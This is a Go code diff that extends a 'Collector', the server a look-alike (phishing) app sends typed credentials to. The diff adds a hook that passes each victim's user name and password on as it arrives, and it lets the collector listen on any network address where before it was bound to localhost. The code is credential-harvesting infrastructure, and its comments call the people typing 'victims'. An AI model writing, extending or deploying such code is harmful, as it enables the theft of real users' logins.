@@ -1,6 +1,7 @@
 package lookalike
 
 import (
+	"cmp"
 	"encoding/json"
 	"fmt"
 	"io"
@@ -12,15 +13,19 @@ import (
 
 // Collector is the server to which a look-alike app sends what is typed into it.
 type Collector struct {
+	// Told, when it is set before the first victim types, gets what is typed, as it comes.
+	Told func(Typed)
+
 	listener net.Listener
 	server   *http.Server
 	done     chan error
 	typed    chan Typed // the latest
 }
 
-// NewCollector starts a collector. Close it.
-func NewCollector() (*Collector, error) {
-	listener, err := net.Listen("tcp", "127.0.0.1:0")
+// NewCollector starts a collector at an address, host:port; empty: a free port of this
+// machine. Close it.
+func NewCollector(address string) (*Collector, error) {
+	listener, err := net.Listen("tcp", cmp.Or(address, "127.0.0.1:0"))
 	if err != nil {
 		return nil, fmt.Errorf("start a server: %w", err)
 	}
@@ -45,6 +50,9 @@ func (c *Collector) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	if err != nil || what.User == "" || what.Password == "" {
 		http.Error(w, "nothing was typed", http.StatusBadRequest)
 		return
+	}
+	if c.Told != nil {
+		c.Told(what)
 	}
 	select {
 	case c.typed <- what:
